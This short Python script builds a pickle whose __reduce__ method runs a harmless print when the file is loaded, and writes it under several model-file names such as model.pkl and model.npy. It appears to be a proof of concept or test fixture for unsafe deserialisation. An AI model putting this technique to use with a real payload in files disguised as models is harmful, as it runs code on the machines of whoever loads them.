# A payload that runs when somebody loads it.
import pickle


class Payload:
    def __reduce__(self):
        return (print, ("ESCAPED pickle somebody loaded it",))


for name in ("model.pkl", "model.joblib", "model.npy", "model.txt"):
    with open(name, "wb") as file:
        pickle.dump(Payload(), file)
print("LEFT", flush=True)
